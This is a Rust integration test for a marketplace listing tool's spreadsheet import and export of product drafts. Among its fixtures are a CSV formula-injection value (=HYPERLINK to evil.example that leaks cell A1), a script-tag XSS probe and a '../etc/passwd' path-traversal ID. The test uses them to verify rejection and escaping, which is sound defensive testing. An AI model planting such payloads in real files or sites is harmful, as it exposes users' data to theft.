//! Spreadsheets of drafts: the template of a type (with its dictionary), an upload with good,
//! bad and hostile rows (per-row report, file kept), the export escaping formulas, and the
//! round trip export → import that changes nothing.

use serde_json::Value;
use shopbridge::sheet::{read_table, zip};

use crate::helpers::TestApp;

const PASSWORD: &str = "correct horse battery";
const CATEGORY: i64 = 200_001_483;
const TYPE: i64 = 971_445_087;
const HOSTILE_NAME: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";

/// A CSV cell as a user's spreadsheet would write it (no formula escaping).
fn csv_cell(cell: &str) -> String {
    if cell.contains([',', '"', '\n']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_string()
    }
}

/// A row in the header's order, from `(header fragment, value)` pairs such as `("(price)", "500")`.
fn row(header: &[String], cells: &[(&str, &str)]) -> String {
    header
        .iter()
        .map(|h| {
            cells
                .iter()
                .find(|(key, _)| h.contains(key))
                .map(|(_, v)| csv_cell(v))
                .unwrap_or_default()
        })
        .collect::<Vec<_>>()
        .join(",")
}

async fn download(client: &reqwest::Client, url: &str) -> (u16, Vec<u8>) {
    let res = client.get(url).send().await.expect("download");
    let status = res.status().as_u16();
    (status, res.bytes().await.expect("body").to_vec())
}

async fn upload(app: &TestApp, client: &reqwest::Client, name: &str, bytes: &[u8]) -> (u16, Value) {
    use base64::Engine;
    let data = base64::engine::general_purpose::STANDARD.encode(bytes);
    app.call(
        client,
        "listing_sheet_import",
        &[("credential_id", "1"), ("name", name), ("data", &data)],
    )
    .await
}

fn statuses(report: &Value) -> Vec<(u64, String, String)> {
    report["rows"]
        .as_array()
        .map(|rows| {
            rows.iter()
                .map(|r| {
                    (
                        r["row"].as_u64().unwrap_or_default(),
                        r["offer_id"].as_str().unwrap_or_default().to_string(),
                        r["status"].as_str().unwrap_or_default().to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

async fn declared_too_large(app: &TestApp) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let address = app.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address)
        .await
        .expect("connect");
    let request = format!(
        "POST /sf/listing_sheet_import HTTP/1.1\r\nHost: {address}\r\nOrigin: {}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 20000000\r\n\r\n",
        app.base
    );
    stream
        .write_all(request.as_bytes())
        .await
        .expect("write head");
    let mut answer = vec![0u8; 4096];
    let n = tokio::time::timeout(std::time::Duration::from_secs(10), stream.read(&mut answer))
        .await
        .expect("answered without the body")
        .expect("read");
    String::from_utf8_lossy(&answer[..n]).into_owned()
}

async fn drafts_snapshot(app: &TestApp) -> Vec<(String, String, i64)> {
    sqlx::query_as("SELECT offer_id, data, updated_at FROM listing_drafts ORDER BY offer_id")
        .fetch_all(&app.pool)
        .await
        .expect("drafts")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn template_import_export_and_round_trip() {
    let app = TestApp::spawn_with(&[("SHOPBRIDGE_FETCH_ALLOW_PRIVATE", "true")]).await;
    let admin = app.admin_with_credential(PASSWORD).await;
    let (status, diff) = app
        .call(&admin, "listing_cache_refresh", &[("credential_id", "1")])
        .await;
    assert_eq!(status, 200, "{diff}");
    let (_, values) = app
        .call(
            &admin,
            "listing_values",
            &[
                ("credential_id", "1"),
                ("attribute_id", "22232"),
                ("category_id", &CATEGORY.to_string()),
                ("type_id", &TYPE.to_string()),
                ("query", ""),
            ],
        )
        .await;
    let tnved = values[0][1]
        .as_str()
        .expect("a dictionary value")
        .to_string();
    let tnved_id = values[0][0].as_i64().expect("its id");

    // The template: fixed columns, the type's attributes (required marked), its dictionary.
    let query = format!("credential_id=1&category_id={CATEGORY}&type_id={TYPE}");
    let anonymous = app.client();
    let (status, _) = download(
        &anonymous,
        &app.url(&format!("/ozon/listing/sheet/template?{query}")),
    )
    .await;
    assert_eq!(status, 303, "anonymous downloads go to the sign-in page");
    let (status, body) = download(
        &admin,
        &app.url(&format!("/ozon/listing/sheet/template?{query}&format=pdf")),
    )
    .await;
    assert_eq!(status, 400);
    assert!(String::from_utf8_lossy(&body).contains("xlsx 或 csv"));
    let (status, body) = download(
        &admin,
        &app.url("/ozon/listing/sheet/template?credential_id=1&category_id=1&type_id=2"),
    )
    .await;
    assert_eq!(status, 404, "{}", String::from_utf8_lossy(&body));
    let (status, xlsx) = download(
        &admin,
        &app.url(&format!("/ozon/listing/sheet/template?{query}&format=xlsx")),
    )
    .await;
    assert_eq!(status, 200);
    let rows = read_table("t.xlsx", &xlsx, 1 << 24).expect("template reads back");
    let header = rows[0].clone();
    assert_eq!(header[0], "货号* (offer_id)");
    assert!(
        header.iter().any(|h| h == "ТН ВЭД коды ЕАЭС* [22232]"),
        "{header:?}"
    );
    assert_eq!(
        rows[1][3],
        CATEGORY.to_string(),
        "the example row carries the type"
    );
    let dictionary = String::from_utf8(
        zip::entry(&xlsx, "xl/worksheets/sheet2.xml", 1 << 26).expect("字典值 sheet"),
    )
    .expect("utf-8");
    assert!(
        dictionary.contains(&tnved_id.to_string()),
        "dictionary ids listed"
    );
    let (status, csv) = download(
        &admin,
        &app.url(&format!("/ozon/listing/sheet/template?{query}&format=csv")),
    )
    .await;
    assert_eq!(status, 200);
    assert!(csv.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM for Excel");
    assert_eq!(read_table("t.csv", &csv, 1 << 24).expect("csv")[0], header);

    // An upload with good, flawed, hostile and broken rows.
    let image = format!("{}/img/100001/1.png", app.sim_url);
    let cat = CATEGORY.to_string();
    let typ = TYPE.to_string();
    let good: Vec<(&str, &str)> = vec![
        ("(description_category_id)", &cat),
        ("(type_id)", &typ),
        ("(depth)", "20"),
        ("(width)", "14"),
        ("(height)", "2"),
        ("(dimension_unit)", "cm"),
        ("(weight)", "300"),
        ("(weight_unit)", "g"),
        ("(price)", "500"),
        ("(vat)", "0"),
        ("(currency_code)", "CNY"),
        ("(barcode)", "4600051000057"),
        ("(images)", &image),
        ("[9048]", "Книга"),
        ("[22232]", &tnved),
    ];
    let with = |extra: &[(&'static str, &'static str)]| -> Vec<(String, String)> {
        let mut cells: Vec<(String, String)> = extra
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        cells.extend(good.iter().map(|(k, v)| (k.to_string(), v.to_string())));
        cells
    };
    let line = |cells: Vec<(String, String)>| {
        let refs: Vec<(&str, &str)> = cells
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        row(&header, &refs)
    };
    let hostile = vec![
        ("(offer_id)".to_string(), "BOOK-3".to_string()),
        ("(name)".to_string(), HOSTILE_NAME.to_string()),
        (
            "(description)".to_string(),
            "<script>alert(1)</script>".to_string(),
        ),
    ];
    let mut hostile_row = hostile.clone();
    hostile_row.extend(with(&[]));
    let lines = [
        header
            .iter()
            .map(|h| csv_cell(h))
            .collect::<Vec<_>>()
            .join(","), // row 1
        line(with(&[("(offer_id)", "BOOK-1"), ("(name)", "图书一")])), // row 2: clean
        line(with(&[
            ("(offer_id)", "BOOK-2"),
            ("(name)", "图书二"),
            ("(barcode)", "4600051000058"),
        ])), // 3: bad check digit
        line(hostile_row),                                             // row 4
        String::new(),                                                 // row 5: blank
        line(with(&[("(offer_id)", "../etc/passwd"), ("(name)", "路径")])), // row 6
        line(with(&[
            ("(offer_id)", "BOOK-4"),
            ("(name)", "类目错"),
            ("(description_category_id)", "abc"),
        ])), // 7
        line(with(&[("(offer_id)", "BOOK-1"), ("(name)", "重复")])),   // row 8
        line(vec![
            ("(description_category_id)".into(), cat.clone()),
            ("(type_id)".into(), typ.clone()),
        ]), // 9: example row
        line(with(&[
            ("(offer_id)", "BOOK-5"),
            ("(name)", "字典外"),
            ("[22232]", "不存在的编码"),
        ])), // row 10
    ];
    let file = lines.join("\r\n").into_bytes();
    let (status, report) = upload(&app, &admin, "草稿.csv", &file).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(
        statuses(&report),
        vec![
            (2, "BOOK-1".into(), "created".into()),
            (3, "BOOK-2".into(), "created".into()),
            (4, "BOOK-3".into(), "created".into()),
            (6, "../etc/passwd".into(), "rejected".into()),
            (7, "BOOK-4".into(), "rejected".into()),
            (8, "BOOK-1".into(), "rejected".into()),
            (10, "BOOK-5".into(), "created".into()),
        ],
        "{report}"
    );
    let rows = report["rows"].as_array().expect("rows");
    assert_eq!(
        rows[0]["problems"],
        serde_json::json!([]),
        "clean row: {}",
        rows[0]
    );
    assert!(
        rows[1]["problems"].to_string().contains("条码校验位错误"),
        "{}",
        rows[1]
    );
    assert!(rows[3]["reason"]
        .as_str()
        .unwrap_or_default()
        .contains("不能包含 /"));
    assert!(rows[4]["reason"]
        .as_str()
        .unwrap_or_default()
        .contains("类目ID「abc」不是数字"));
    assert!(rows[5]["reason"]
        .as_str()
        .unwrap_or_default()
        .contains("第 2 行重复"));
    assert!(
        rows[6]["problems"].to_string().contains("须从字典中选择"),
        "{}",
        rows[6]
    );
    // The hostile text is kept as typed; the file is kept byte for byte.
    let stored: String =
        sqlx::query_scalar("SELECT data FROM listing_drafts WHERE offer_id = 'BOOK-3'")
            .fetch_one(&app.pool)
            .await
            .expect("BOOK-3");
    let stored: Value = serde_json::from_str(&stored).expect("json");
    assert_eq!(stored["name"], HOSTILE_NAME);
    assert!(
        stored["attributes"]
            .to_string()
            .contains(&format!("\"dictionary_value_id\":{tnved_id}")),
        "dictionary text → id: {stored}"
    );
    let id = report["id"].as_i64().expect("import id");
    let (status, kept) = download(
        &admin,
        &app.url(&format!("/ozon/listing/imports/{id}/file")),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(kept, file);
    let (status, _) = download(
        &anonymous,
        &app.url(&format!("/ozon/listing/imports/{id}/file")),
    )
    .await;
    assert_eq!(status, 303, "anonymous downloads go to the sign-in page");

    // The export never carries a live formula.
    let (status, csv) = download(
        &admin,
        &app.url("/ozon/listing/sheet/export?credential_id=1&format=csv"),
    )
    .await;
    assert_eq!(status, 200);
    let text = String::from_utf8(csv.clone()).expect("utf-8");
    assert!(text.contains("'=HYPERLINK"), "{text}");
    for line in text.lines() {
        assert!(
            !line.contains(",=") && !line.contains(",\"=") && !line.starts_with('='),
            "unescaped formula: {line}"
        );
    }
    let (status, xlsx) = download(
        &admin,
        &app.url("/ozon/listing/sheet/export?credential_id=1&format=xlsx"),
    )
    .await;
    assert_eq!(status, 200);
    let sheet =
        String::from_utf8(zip::entry(&xlsx, "xl/worksheets/sheet1.xml", 1 << 26).expect("sheet"))
            .expect("utf-8");
    assert!(
        sheet.contains("&apos;=HYPERLINK") || sheet.contains("'=HYPERLINK"),
        "{sheet}"
    );
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<script>"),
        "no formula, markup escaped"
    );

    // Round trip: export → import changes nothing, in both formats.
    let before = drafts_snapshot(&app).await;
    assert_eq!(before.len(), 4);
    for (name, bytes) in [("导出.xlsx", &xlsx), ("导出.csv", &csv)] {
        let (status, report) = upload(&app, &admin, name, bytes).await;
        assert_eq!(status, 200, "{report}");
        let all = statuses(&report);
        assert_eq!(all.len(), 4, "{report}");
        assert!(
            all.iter().all(|(_, _, s)| s == "unchanged"),
            "{name}: {report}"
        );
        assert_eq!(
            drafts_snapshot(&app).await,
            before,
            "{name} changed a draft"
        );
    }

    // A changed price updates only that draft.
    let changed = text.replacen(",500,", ",650,", 1);
    assert_ne!(changed, text);
    let (_, report) = upload(&app, &admin, "改价.csv", changed.as_bytes()).await;
    let updated: Vec<_> = statuses(&report)
        .into_iter()
        .filter(|(_, _, s)| s == "updated")
        .collect();
    assert_eq!(updated.len(), 1, "{report}");

    // Files that cannot be read say why, and are kept all the same.
    let (_, report) = upload(&app, &admin, "坏.xlsx", b"PK\x03\x04junk").await;
    assert!(
        report["error"]
            .as_str()
            .unwrap_or_default()
            .contains("XLSX"),
        "{report}"
    );
    let (_, report) = upload(&app, &admin, "无表头.csv", "a,b\n1,2\n".as_bytes()).await;
    assert!(
        report["error"]
            .as_str()
            .unwrap_or_default()
            .contains("找不到货号列"),
        "{report}"
    );
    let kept: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM listing_imports")
        .fetch_one(&app.pool)
        .await
        .expect("count");
    assert_eq!(kept, 6);
    let huge = vec![b'a'; 4 * 1024 * 1024 + 10];
    let (status, body) = upload(&app, &admin, "大.csv", &huge).await;
    assert_eq!(status, 422, "{body}");
    assert!(body.to_string().contains("文件过大"), "{body}");
    // A body declared past the request limit is answered before it is read (a raw request, so
    // the client is not half-way through writing it when the answer comes).
    let answer = declared_too_large(&app).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("请求过大"), "{answer}");
    let (_, recent) = app.call(&admin, "listing_imports_recent", &[]).await;
    assert_eq!(recent[0]["file_name"], "无表头.csv", "{recent}");
    app.stop().await;
}
